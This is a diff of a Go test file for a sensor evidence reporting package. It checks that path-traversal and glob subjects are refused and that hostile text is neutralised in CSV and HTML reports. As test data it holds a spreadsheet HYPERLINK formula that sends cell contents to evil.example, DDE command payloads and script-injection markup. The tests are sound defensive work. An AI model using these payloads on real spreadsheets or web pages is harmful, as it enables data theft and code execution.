@@ -102,8 +102,12 @@ func TestDir(t *testing.T) {
 	if res := evidence.Verify("sensor:road-1", es); res.OK || res.BrokenAt != "2026-12-02" {
 		t.Errorf("a changed file: %+v, want broken at 2026-12-02", res)
 	}
-	if _, err := dir.ReadDir("sensor:../../etc"); kessel.ErrorCode(err) != kessel.EINVALID && kessel.ErrorCode(err) != kessel.ENOTFOUND {
-		t.Errorf("a path in the subject: %v", err)
+	// A subject that is no sensor's or route's id is refused before any
+	// file is read: a pattern would gather other chains' files.
+	for _, subject := range []string{"sensor:../../etc", "sensor:*", "sensor:road-?", "sensor:[a-z]*", "route:..", "sensor:", "sensor:a/b", "truck:road-1"} {
+		if es, err := dir.ReadDir(subject); kessel.ErrorCode(err) != kessel.EINVALID || len(es) != 0 {
+			t.Errorf("ReadDir(%q): %d entries, %v; want EINVALID", subject, len(es), err)
+		}
 	}
 }
 
@@ -161,4 +165,76 @@ func maps(a, b map[string]int) bool {
 		}
 	}
 	return true
+}
+
+// TestReportHostileText: an acknowledgement's note, its key's name and an
+// alert's summary come from outside. In the CSV a cell that a spreadsheet
+// would run as a formula (starting with = + - @, a tab or a carriage
+// return) is prefixed with an apostrophe; in the HTML report markup is
+// shown as text. Numbers keep their sign.
+func TestReportHostileText(t *testing.T) {
+	for _, tc := range []struct {
+		name, note, csvNote, htmlHas string
+	}{
+		{"formula", `=HYPERLINK("http://evil.example/?"&A1,"Beleg")`, `'=HYPERLINK("http://evil.example/?"&A1,"Beleg")`, "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1"},
+		{"plus", "+49 711 123", "'+49 711 123", "&#43;49 711 123"},
+		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "-2&#43;3&#43;cmd|&#39; /C calc&#39;!A0"},
+		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1&#43;1)*cmd"},
+		{"tab", "\t=1+1", "'\t=1+1", "\t=1&#43;1"},
+		{"markup", `<script>alert(1)</script><img src=x onerror=alert(2)>`, `<script>alert(1)</script><img src=x onerror=alert(2)>`, "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;"},
+		{"plain", "Streufahrzeug 3 ausgerückt", "Streufahrzeug 3 ausgerückt", "Streufahrzeug 3 ausgerückt"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			es := chain(t, "2026-12-01", 1)
+			rec, _ := evidence.Decode(es[0])
+			sd := &rec.Sensors[0]
+			for i := range sd.Acks {
+				sd.Acks[i].Note, sd.Acks[i].By = tc.note, tc.note
+			}
+			for i := range sd.Alerts {
+				sd.Alerts[i].Summary = tc.note
+			}
+			min := -3.5
+			for q, st := range sd.Stats {
+				st.Min = min
+				sd.Stats[q] = st
+			}
+			rep := evidence.Report{Subject: rec.Subject, From: rec.Day, To: rec.Day, Records: []evidence.Record{rec}}
+			var page, sheet bytes.Buffer
+			if err := rep.WriteHTML(&page); err != nil {
+				t.Fatal(err)
+			}
+			if !strings.Contains(page.String(), tc.htmlHas) || strings.Contains(page.String(), "<script>alert") || strings.Contains(page.String(), "<img src=x") {
+				t.Errorf("HTML shows %q not as %q", tc.note, tc.htmlHas)
+			}
+			if err := rep.WriteCSV(&sheet); err != nil {
+				t.Fatal(err)
+			}
+			rows, err := csv.NewReader(&sheet).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			seen := map[string]int{}
+			for _, r := range rows[1:] {
+				switch r[0] {
+				case "ack":
+					if r[17] != tc.csvNote || r[16] != tc.csvNote {
+						t.Errorf("ack row by %q note %q, want %q", r[16], r[17], tc.csvNote)
+					}
+				case "alert":
+					if r[17] != tc.csvNote {
+						t.Errorf("alert row note %q, want %q", r[17], tc.csvNote)
+					}
+				case "stats":
+					if r[7] != "-3.5" {
+						t.Errorf("stats row min %q, want -3.5", r[7])
+					}
+				}
+				seen[r[0]]++
+			}
+			if seen["ack"] == 0 || seen["alert"] == 0 || seen["stats"] == 0 {
+				t.Fatalf("rows by entry %v: the test needs an ack, an alert and stats", seen)
+			}
+		})
+	}
 }
